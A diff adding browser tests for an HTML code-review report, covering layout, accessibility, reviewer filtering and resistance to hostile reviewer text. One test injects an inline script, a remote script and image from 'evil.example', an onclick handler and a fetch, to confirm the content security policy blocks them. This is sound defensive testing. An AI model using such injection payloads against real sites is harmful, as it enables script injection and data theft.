@@ -1,0 +1,134 @@
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { resolve } from 'node:path';
+import type { Browser } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { renderHtml } from '../../src/render/html/render-html.ts';
+import { noSources } from '../../src/render/source/source-reader.ts';
+import { loadTemplates } from '../../src/render/templates.ts';
+import { openPage, startBrowser } from '../support/browser.ts';
+import { hostileReports } from '../support/hostile-texts.ts';
+import { createReportFixture, type ReportFixture } from '../support/report-fixture.ts';
+
+const axeSource = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
+
+let fixture: ReportFixture;
+let browser: Browser;
+let html: string;
+/** One page in which every free text is a different hostile one. */
+let hostile: string;
+beforeAll(async () => {
+  fixture = createReportFixture();
+  const templates = await loadTemplates(resolve(import.meta.dirname, '../../templates'));
+  html = await renderHtml({ report: fixture.report, sources: fixture.sources, templates });
+  const [report = fixture.report] = hostileReports(fixture.report);
+  hostile = await renderHtml({ report, sources: noSources, templates });
+  browser = await startBrowser();
+});
+afterAll(async () => {
+  await browser.close();
+  fixture.remove();
+});
+
+const views = [
+  { width: 1280, colorScheme: 'light' },
+  { width: 1280, colorScheme: 'dark' },
+  { width: 390, colorScheme: 'light' },
+  { width: 390, colorScheme: 'dark' },
+] as const;
+
+describe('report.html in a browser', () => {
+  test.each(views)('asks for nothing, says nothing, fits: $width $colorScheme', async (view) => {
+    const { page, requests, messages, close } = await openPage(browser, html, view);
+    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(view.width);
+    expect(await page.title()).toBe(fixture.report.title);
+    expect(requests).toEqual([]);
+    expect(messages).toEqual([]);
+    await close();
+  });
+
+  test.each(views)('can be read by everybody: $width $colorScheme', async (view) => {
+    const { page, close } = await openPage(browser, html, view);
+    await page.evaluate("for (const fold of document.querySelectorAll('details')) fold.open = true");
+    await page.evaluate(axeSource);
+    const violations = await page.evaluate(
+      `axe.run(document, { resultTypes: ['violations'] }).then(({ violations }) => violations.map(({ id, impact, nodes }) => ({ id, impact, at: nodes[0].html, why: nodes[0].failureSummary })))`,
+    );
+    expect(violations).toEqual([]);
+    await close();
+  });
+
+  test('is whole without its script', async () => {
+    const { page, messages, close } = await openPage(browser, html, { ...views[0], javaScript: false });
+    expect(await page.locator('.finding:visible').count()).toBe(fixture.report.findings.length);
+    expect(await page.locator('.filters').isVisible()).toBe(false);
+    expect(messages).toEqual([]);
+    await close();
+  });
+
+  test.each(views)('runs nothing that reviewers wrote: $width $colorScheme', async (view) => {
+    const { page, requests, messages, close } = await openPage(browser, hostile, view);
+    await page.evaluate("for (const fold of document.querySelectorAll('details')) fold.open = true");
+    expect(requests).toEqual([]);
+    expect(messages).toEqual([]);
+    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(view.width);
+    expect(
+      await page.locator('img, svg, iframe, object, embed, form, base, [onerror], [onload], [style]').count(),
+    ).toBe(0);
+    expect(await page.locator('script').count()).toBe(1);
+    expect(await page.locator('.finding').count()).toBe(fixture.report.findings.length);
+    await close();
+  });
+
+  test('lets no script in by its policy, even where one could be put', async () => {
+    const { page, close } = await openPage(browser, html, views[0]);
+    const refused = await page.evaluate(`new Promise((resolve) => {
+      const refused = new Set();
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+        refused.add(effectiveDirective);
+        if (refused.size === 5) resolve([...refused].toSorted());
+      });
+      const script = document.createElement('script');
+      script.textContent = 'window.broken = true';
+      document.body.append(script);
+      const remote = document.createElement('script');
+      remote.src = 'https://evil.example/x.js';
+      document.body.append(remote);
+      document.body.insertAdjacentHTML('beforeend', '<p style="position:fixed">x</p><img src="https://evil.example/x.png"><b onclick="window.broken = true">x</b>');
+      document.body.lastElementChild.click();
+      fetch('https://evil.example/').catch(() => {});
+      setTimeout(() => resolve([...refused].toSorted()), 5000);
+    })`);
+    expect(refused).toEqual([
+      'connect-src',
+      'img-src',
+      'script-src-attr',
+      'script-src-elem',
+      'style-src-attr',
+    ]);
+    expect(await page.evaluate('window.broken')).toBeUndefined();
+    await close();
+  });
+
+  test('filters by reviewer and counts what is shown', async () => {
+    const { page, close } = await openPage(browser, html, views[0]);
+    for (const name of ['claude', 'gemini', 'checks']) await page.click(`.filter[data-reviewer="${name}"]`);
+    const shown = await page.locator('.finding:visible').evaluateAll((all) => all.map((one) => one.id));
+    const expected = fixture.report.findings.filter(({ reviewers }) => reviewers.includes('codex'));
+    expect(shown).toEqual(expected.map(({ label }) => label));
+    expect(await page.textContent('.filters-status')).toBe(`${expected.length} of 8 findings shown`);
+    await close();
+  });
+
+  test('steps through the findings by key and opens the fold a link leads into', async () => {
+    const { page, close } = await openPage(browser, html, views[0]);
+    await page.keyboard.press('j');
+    await page.keyboard.press('j');
+    expect(await page.evaluate('document.activeElement.textContent')).toBe('C2');
+    await page.keyboard.press('k');
+    expect(await page.evaluate('document.activeElement.textContent')).toBe('C1');
+    await page.evaluate("location.hash = '#not-published'");
+    await page.waitForFunction("document.getElementById('not-published').open");
+    await close();
+  });
+});
